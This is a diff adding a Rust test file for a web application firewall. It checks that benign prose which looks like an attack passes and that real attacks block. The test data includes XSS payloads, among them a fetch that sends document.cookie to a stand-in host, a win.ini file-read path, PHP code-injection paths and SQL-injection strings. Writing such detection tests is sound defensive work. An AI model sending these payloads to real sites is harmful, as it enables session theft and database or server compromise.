@@ -1,0 +1,142 @@
+//! Benign look-alikes (prose that shares words and punctuation with an
+//! attack family) that must pass at paranoia 1, each beside an attack of
+//! the same family and rule that must still block.
+
+use super::Engine;
+use crate::detect::{Action, DetectConfig, Verdict};
+use crate::http::Request;
+
+/// The engine at the default paranoia (1), built once.
+fn engine() -> &'static Engine {
+    static E: std::sync::OnceLock<Engine> = std::sync::OnceLock::new();
+    E.get_or_init(|| Engine::new(&DetectConfig::default()).expect("default configuration"))
+}
+
+/// A browser's GET of `target`, with a Referer if given.
+fn get(target: &str, referer: Option<&str>) -> Verdict {
+    let e = engine();
+    let mut headers = vec![
+        ("Host".to_owned(), "app.example.test".to_owned()),
+        (
+            "User-Agent".to_owned(),
+            "Mozilla/5.0 (X11; Linux x86_64) Chrome/131.0".to_owned(),
+        ),
+        ("Accept".to_owned(), "*/*".to_owned()),
+    ];
+    if let Some(r) = referer {
+        headers.push(("Referer".to_owned(), r.to_owned()));
+    }
+    let req = Request::from_parts("GET", target, headers, Vec::new(), e.limits()).expect("request");
+    e.inspect(&req, None)
+}
+
+fn rules(v: &Verdict) -> Vec<&str> {
+    v.attacks.iter().map(|f| f.rule.as_str()).collect()
+}
+
+fn assert_passes(v: &Verdict, what: &str) {
+    assert_eq!(v.action, Action::Pass, "{what}: {:?}", v.attacks);
+}
+
+fn assert_blocks_with(v: &Verdict, rule: &str, what: &str) {
+    assert_eq!(v.action, Action::Block, "{what}: {:?}", v.attacks);
+    assert!(rules(v).contains(&rule), "{what}: {:?}", rules(v));
+}
+
+/// `eval(uation) form`: a closed call and then a word is a syntax error
+/// in JavaScript; a call that starts an expression still blocks.
+#[test]
+fn a_sink_call_followed_by_words_is_prose() {
+    for q in [
+        "/s?comment=eval(uation)%20form%20for%20staff",
+        "/s?comment=atob(s)%20explained",
+    ] {
+        let v = get(q, None);
+        assert_passes(&v, q);
+        assert!(!rules(&v).contains(&"xss-js-call-value"), "{q}");
+    }
+    for q in [
+        "/s?comment=eval(name)",
+        "/s?comment=eval(name)//",
+        "/s?comment=eval(atob(location.hash.slice(1)))",
+        "/s?comment=setTimeout(name)",
+        "/s?comment=eval(name);x",
+    ] {
+        assert_blocks_with(&get(q, None), "xss-js-call-value", q);
+    }
+}
+
+/// `q=Document.cookie policy` in a Referer: the `=` is the query's, and
+/// `document.cookie` followed by a word is no expression.
+#[test]
+fn document_cookie_in_a_sentence_is_prose() {
+    let prose = "https://app.example.test/search?q=Document.cookie%20policy%20in%20our%20terms";
+    assert_passes(&get("/x", Some(prose)), prose);
+    let attack =
+        "https://app.example.test/search?q=x%22;fetch(%22//e.example/?c=%22%2Bdocument.cookie)";
+    assert_blocks_with(&get("/x", Some(attack)), "xss-js-sink", attack);
+    let q = "/s?q=a;c=document.cookie;";
+    assert_blocks_with(&get(q, None), "xss-js-sink", q);
+}
+
+/// A path segment `win.ini editing tips` names another file than
+/// `win.ini`; the file itself, or followed by shell punctuation, blocks.
+#[test]
+fn a_file_name_followed_by_words_is_another_name() {
+    let prose = "/api/items/win.ini%20editing%20tips/details";
+    assert_passes(&get(prose, None), prose);
+    for t in [
+        "/files/win.ini",
+        "/download?f=/windows/win.ini%20%7C%20more",
+    ] {
+        assert_blocks_with(&get(t, None), "lfi-os-file", t);
+    }
+}
+
+/// `eval(` in a path segment counts once (the segment is read as a
+/// parameter too), so a segment naming the function in prose passes.
+#[test]
+fn eval_in_a_path_segment_counts_once() {
+    let prose = "/api/items/the%20eval()%20function%20is%20dangerous%2C%20they%20say/details";
+    let v = get(prose, None);
+    assert_passes(&v, prose);
+    assert!(rules(&v).contains(&"code-eval-generic"), "{:?}", rules(&v));
+    for t in ["/index.php/eval(base64_decode(x))", "/api/eval(name)"] {
+        let v = get(t, None);
+        assert_eq!(v.action, Action::Block, "{t}: {:?}", v.attacks);
+    }
+    let t = "/index.php/system(id)";
+    assert_blocks_with(&get(t, None), "code-injection-path", t);
+}
+
+/// `char(acter) count: 140`: libinjection reads `f(n)f` in its first five
+/// tokens, but a lone `:` follows, which no SQL statement parses. Quoted
+/// or commented colons, and injections without one, still block.
+#[test]
+fn a_lone_colon_after_the_tokens_is_no_sql() {
+    use crate::detect::libinj::breaks_sql_later;
+    assert!(breaks_sql_later(b"char(acter) count: 140"));
+    for s in [
+        "'a:b' or 1=1",
+        "1' or 1=1 -- a:b",
+        "x' union select 'a:b'--",
+        "1;waitfor delay '0:0:5'--",
+        "char(97) count",
+        "1'; anything: goto anything -- -a",
+        "lbl: select 1 union select 2",
+    ] {
+        assert!(!breaks_sql_later(s.as_bytes()), "{s}");
+    }
+    let prose = "/s?q=char(acter)%20count:%20140";
+    let v = get(prose, None);
+    assert_passes(&v, prose);
+    assert!(rules(&v).contains(&"sqli-libinjection"), "{:?}", rules(&v));
+    for t in [
+        "/s?q=%27a:b%27%20or%201=1",
+        "/s?q=1%27%20or%201=1%20--%20a:b",
+        "/s?q=char(97)%20count",
+        "/s?q=1%27%3B+anything%3A+goto+anything+--+-a",
+    ] {
+        assert_blocks_with(&get(t, None), "sqli-libinjection", t);
+    }
+}
